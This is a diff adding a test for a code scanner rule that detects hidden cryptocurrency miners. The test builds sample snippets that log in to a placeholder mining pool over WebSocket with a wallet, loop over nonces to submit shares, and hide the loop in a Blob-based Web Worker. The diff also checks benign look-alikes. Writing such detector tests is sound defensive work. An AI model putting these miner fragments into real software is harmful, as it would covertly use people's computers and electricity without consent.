@@ -140,3 +140,12 @@ test('good: other extensions are listed, its own files copied, packages of a pro
     "const around = path.resolve(__dirname, '..', '..'); for (const dir of fs.readdirSync(around)) { const file = path.join(around, dir, 'table.json'); fs.writeFileSync(file, JSON.stringify(require(file), null, 2)); }",
   ]) assert.deepEqual(found({ 'index.js': "require('./lib/near');", 'lib/near.js': `${IMPORTS} ${code}` }), [], code);
 });
+
+test('a miner that speaks the protocol of a pool, with a program that tries numbers, also in workers made of text', () => {
+  const found = (code: string): boolean => findingsOf(rule, { 'index.js': code }, { dialect: 'formula', entry_points: ['index.js'] }).some(({ message }) => message.startsWith('numbers are tried'));
+  const pool = (id: string) => `const ws = new WebSocket("wss://pool.kit.example"); ws.onopen = () => ws.send(JSON.stringify({ method: "login", params: { login: WALLET, pass: "x" } })); const hand = (job, nonce) => ws.send(JSON.stringify({ method: "submit", params: { ${id}: job.id, nonce } }));`;
+  const turn = 'const turn = (job, n) => { for (let nonce = n; nonce < n + 2000; nonce++) if (hash.rx(job.seed, nonce) < job.target) hand(job, nonce); };';
+  const worker = 'const source = `onmessage = ({ data }) => { for (let nonce = 0; ; nonce++) if (hash(data.blob, nonce) < data.target) { postMessage({ nonce }); break; } };`; new Worker(URL.createObjectURL(new Blob([source])));';
+  for (const code of [pool('id') + turn, pool('job_id') + worker, pool('id') + worker]) assert.ok(found(code), code);
+  for (const code of [pool('id'), pool('job_id') + 'const source = `onmessage = ({ data }) => { for (const each of data) postMessage(each * 2); };`; new Worker(URL.createObjectURL(new Blob([source])));', `${turn} fetch("https://captcha.kit.example", { method: "POST", body: JSON.stringify({ method: "submit", nonce, login }) });`]) assert.ok(!found(code), code);
+});
